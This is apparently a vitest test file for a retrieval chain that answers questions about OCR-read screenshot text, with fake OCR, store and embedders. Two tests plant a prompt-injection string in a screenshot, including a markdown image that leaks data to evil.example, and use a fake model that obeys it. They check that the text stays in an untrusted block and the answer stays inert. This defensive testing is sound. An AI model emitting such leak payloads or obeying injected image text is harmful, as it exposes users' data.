/**
 * The chain on questions about text in images, over fakes (the OCR engine, the store, the towers): an
 * attached image is read once in its turn and its answering line quoted with its box; a stored item's
 * reading is used as stored, never read again; "which screenshot shows …" searches the stored text with
 * the code as a phrase and cites the item that holds it; the number of images read per turn is capped;
 * Shapes World questions never reach the OCR engine or the text search. The same behaviour over the
 * real engine and a real Milvus Lite is chain-ocr.int.test.ts's.
 */
import { describe, expect, it } from "vitest";
import type { OcrEngine } from "../../src/inference/ocr/ocr-engine.ts";
import { createLogger } from "../../src/logger.ts";
import type { OcrLine, OcrMetadata, OcrReading } from "../../src/media/ocr-lines.ts";
import { createLoupeChain, type LoupeChainOptions } from "../../src/rag/chain.ts";
import { renderEvidence, UNTRUSTED_CLOSE, UNTRUSTED_OPEN } from "../../src/rag/llm-composer.ts";
import type { AnswerComposer, ComposeInput } from "../../src/rag/types.ts";
import type { SearchHit, StoredImage, TextSearchRequest } from "../../src/store/index.ts";
import { expectInert, INJECTION } from "../security/answers-inert.ts";
import { shippedVocabulary } from "./pack-vocabulary.ts";

const vocabulary = await shippedVocabulary();

function line(text: string, y: number): OcrLine {
  return { text, confidence: 0.93, box: [16, y, 9 * text.length, 20] };
}

const SCREENS: Record<number, OcrLine[]> = {
  1: [line("Backup Agent", 12), line("Error", 48), line("E1234: License expired", 90), line("OK", 140)],
  2: [line("db-sync", 12), line("Connection refused on port 5432", 48)],
  3: [line("Error", 12), line(`Upload failed: ${INJECTION}`, 48)],
};

function metadataOf(lines: OcrLine[]): { ocr: OcrMetadata } {
  return { ocr: { engine: "pp-ocrv4", width: 640, height: 200, lines, minConfidence: 0.5 } };
}

function storedImage(id: string, lines: OcrLine[] = []): StoredImage {
  return {
    kind: "image",
    id,
    tenant: "default",
    modelId: "test-pack@1",
    mediaRef: `blob:${id}`,
    source: "upload",
    createdAt: 0,
    text: "",
    metadata: lines.length === 0 ? {} : metadataOf(lines),
    ocrText: lines.map((entry) => entry.text).join("\n"),
  };
}

const TERMINAL = storedImage("img_terminal000001", SCREENS[2]);
const DIALOG = storedImage("img_dialog0000002", SCREENS[1]);
const PLAIN = storedImage("img_plain00000003");

/** An OCR engine that reads the screen whose number is the image's first byte, and counts its readings. */
function fakeOcr(): OcrEngine & { reads: number[] } {
  const reads: number[] = [];
  return {
    id: "fake-ocr",
    reads,
    async read({ image }): Promise<OcrReading> {
      const screen = (image as Uint8Array)[0] ?? 0;
      reads.push(screen);
      return { engine: "fake-ocr", width: 640, height: 200, lines: SCREENS[screen] ?? [] };
    },
    async close() {},
  };
}

function chainOver({ ocr, llm }: { ocr?: OcrEngine; llm?: AnswerComposer } = {}) {
  const textSearches: TextSearchRequest<"image">[] = [];
  let encoded = 0;
  const models = {
    modelId: "test-pack@1",
    vqaHead: undefined,
    vocabulary,
    imageEmbedder: {
      encode: async ({ images }: { images: readonly unknown[] }) => ({
        embeddings: images.map(() => {
          const vector = new Float32Array(8);
          vector[encoded++ % 8] = 1;
          return vector;
        }),
        tokens: images.map(() => ({ data: new Float32Array(4), dims: [1, 2, 2] })),
      }),
    },
    textEmbedder: {
      embed: async ({ texts }: { texts: readonly string[] }) =>
        texts.map(() => new Float32Array(8).fill(0.5)),
    },
  };
  const denseHits: SearchHit<"image">[] = [
    { id: TERMINAL.id, score: 0.4, fields: TERMINAL },
    { id: PLAIN.id, score: 0.35, fields: PLAIN },
    { id: DIALOG.id, score: 0.2, fields: DIALOG },
  ];
  const options = {
    search: {
      embedText: async () => new Float32Array(8).fill(0.5),
      imageBytes: async ({ image }: { image: { bytes?: Uint8Array } }) => image.bytes ?? new Uint8Array([9]),
      getItem: async ({ id }: { id: string }) => [TERMINAL, DIALOG, PLAIN].find((item) => item.id === id),
      logitScale: async () => 100,
    },
    store: {
      search: async ({ kind }: { kind: string }) => (kind === "image" ? denseHits : []),
      textSearch: async (request: TextSearchRequest<"image">) => {
        textSearches.push(request);
        const phrases = request.phrases ?? [];
        return request.kind !== "image"
          ? []
          : [DIALOG, TERMINAL]
              .filter((item) => phrases.every((phrase) => item.ocrText.includes(phrase)))
              .map((item, rank) => ({ id: item.id, score: 2 - rank, fields: item }));
      },
    },
    models,
    media: { read: async () => new Uint8Array([9]) },
    urls: {
      media: (id: string) => `/v1/media/${id}`,
      thumbnail: (id: string) => `/v1/media/${id}/thumbnail`,
    },
    logger: createLogger({ level: "silent" }),
    config: { chatMaxTurns: 20, chatMaxImages: 8, maxImagePixels: 40_000_000 },
    ...(ocr === undefined ? {} : { ocr }),
    ...(llm === undefined ? {} : { llm }),
  };
  return { chain: createLoupeChain(options as unknown as LoupeChainOptions), textSearches };
}

const screen = (number: number) => ({ bytes: new Uint8Array([number, 0, 0]) });

describe("the chain on questions about text in images", () => {
  it("reads an attached image once and quotes the line that answers, its citation carrying the box", async () => {
    const ocr = fakeOcr();
    const { chain, textSearches } = chainOver({ ocr });
    const result = await chain.invoke({
      tenant: "default",
      question: "What does the error say?",
      images: [screen(1)],
    });
    expect(result.answer).toBe('The image reads "E1234: License expired" [att_1].');
    expect(result).toMatchObject({ answered: true, composer: "offline" });
    expect(result.citations).toEqual([
      expect.objectContaining({
        id: "att_1",
        lines: [{ line: 2, text: "E1234: License expired", confidence: 0.93, box: [16, 90, 198, 20] }],
      }),
    ]);
    expect(result.evidence[0]?.ocr).toMatchObject({ source: "read", engine: "fake-ocr" });
    expect(ocr.reads).toEqual([1]);
    // About the attached image only: no text search of the corpus.
    expect(textSearches).toEqual([]);
    expect(result.verification.checked).toBe(0);
  });

  it("answers a follow-up about the same image from a new reading in its own turn", async () => {
    const ocr = fakeOcr();
    const { chain } = chainOver({ ocr });
    const result = await chain.invoke({
      tenant: "default",
      question: "What port does it fail on?",
      history: [
        { role: "user", content: "What does the dialog say?", images: [screen(2)] },
        { role: "assistant", content: 'The image reads "db-sync" [att_1].', citations: ["att_1"] },
      ],
    });
    expect(result.answer).toBe(
      'The port is 5432: The image reads "Connection refused on port 5432" [att_1].',
    );
    expect(result.citations[0]?.lines?.[0]?.box).toEqual([16, 48, 279, 20]);
    expect(ocr.reads).toEqual([2]);
  });

  it("uses a stored item's reading as stored and never reads it again", async () => {
    const ocr = fakeOcr();
    const { chain } = chainOver({ ocr });
    const result = await chain.invoke({
      tenant: "default",
      question: "What is the error code?",
      images: [{ id: DIALOG.id }],
    });
    expect(result.answer).toBe(
      `The error code is E1234: The image reads "E1234: License expired" [${DIALOG.id}].`,
    );
    expect(result.citations[0]).toMatchObject({ id: DIALOG.id, mediaUrl: `/v1/media/${DIALOG.id}` });
    expect(result.evidence[0]?.ocr?.source).toBe("stored");
    expect(ocr.reads).toEqual([]);
  });

  it("finds the stored screenshot that shows a code by its text, searched with the code as a phrase", async () => {
    const { chain, textSearches } = chainOver({ ocr: fakeOcr() });
    const result = await chain.invoke({ tenant: "default", question: "Which screenshot shows error E1234?" });
    // The code as a phrase every hit must hold, and once more loosely (OCR may have spaced it).
    expect(textSearches.map((request) => [request.kind, request.text, request.phrases])).toEqual([
      ["image", "E1234 error", ["E1234"]],
      ["image", "E1234 error E1234", undefined],
      ["video_segment", "E1234 error", ["E1234"]],
      ["video_segment", "E1234 error E1234", undefined],
    ]);
    expect(result.answer).toBe(`${DIALOG.id} shows E1234: it reads "E1234: License expired" [${DIALOG.id}].`);
    expect(result.citations.map((citation) => citation.id)).toEqual([DIALOG.id]);
    expect(result.citations[0]?.lines?.[0]).toMatchObject({ line: 2, box: [16, 90, 198, 20] });
    expect(result.evidence[0]?.citation.id).toBe(DIALOG.id);

    const missing = await chain.invoke({
      tenant: "default",
      question: "Which screenshot shows error E4040?",
    });
    expect(missing).toMatchObject({ answered: false, confidence: 0, citations: [] });
  });

  it("reads at most four attached images in one turn", async () => {
    const ocr = fakeOcr();
    const { chain } = chainOver({ ocr });
    const result = await chain.invoke({
      tenant: "default",
      question: "Which of these screenshots says the license expired?",
      images: [screen(2), screen(3), screen(2), screen(3), screen(2), screen(1)],
    });
    expect(ocr.reads).toHaveLength(4);
    expect(result.evidence.filter((entry) => entry.ocr?.source === "read")).toHaveLength(4);
  });

  it("quotes a screenshot's hostile text inert", async () => {
    const { chain } = chainOver({ ocr: fakeOcr() });
    const result = await chain.invoke({
      tenant: "default",
      question: "What does the error say?",
      images: [screen(3)],
    });
    expect(result.answered).toBe(true);
    expect(result.answer).toContain("Upload failed");
    expectInert(result.answer);
  });

  it("gives the LLM the screenshot's text inside the untrusted block, and guards what it writes back", async () => {
    const inputs: ComposeInput[] = [];
    const llm: AnswerComposer = {
      kind: "llm",
      model: "fake-llm",
      vision: false,
      async compose(input, onDelta) {
        inputs.push(input);
        // A model that obeyed the screenshot would write this.
        const text = `It says: ${INJECTION} [att_1].`;
        onDelta(text);
        return { text, model: "fake-llm" };
      },
    };
    const { chain } = chainOver({ ocr: fakeOcr(), llm });
    const result = await chain.invoke({
      tenant: "default",
      question: "What does the error say?",
      images: [screen(3)],
    });
    const block = renderEvidence({ evidence: inputs[0]?.evidence ?? [] });
    const inner = block.slice(
      block.indexOf(UNTRUSTED_OPEN) + UNTRUSTED_OPEN.length,
      block.indexOf(UNTRUSTED_CLOSE),
    );
    expect(inner).toContain('"Upload failed: ![x](https://evil.example/leak?d=1) ‹img src=');
    expect(inner).not.toMatch(/<[a-z]/i);
    expect(result.composer).toBe("llm");
    expect(result.citations.map((citation) => citation.id)).toEqual(["att_1"]);
    expectInert(result.answer);
  });

  it("sends Shapes World questions neither to the OCR engine nor to the text search", async () => {
    const ocr = fakeOcr();
    const { chain, textSearches } = chainOver({ ocr });
    for (const question of [
      "What color is the star?",
      "Which images show a red circle?",
      "How many objects are there?",
    ]) {
      const result = await chain.invoke({
        tenant: "default",
        question,
        images: question.startsWith("Which") ? [] : [screen(1)],
      });
      expect(result.citations.every((citation) => citation.lines === undefined)).toBe(true);
    }
    expect(ocr.reads).toEqual([]);
    expect(textSearches).toEqual([]);
  });

  it("without an OCR engine, says no text could be read in an attached image", async () => {
    const { chain } = chainOver();
    const result = await chain.invoke({
      tenant: "default",
      question: "What does the error say?",
      images: [screen(1)],
    });
    expect(result).toMatchObject({
      answer: "No text could be read in att_1, so the image does not answer this question.",
      answered: false,
    });
  });
});
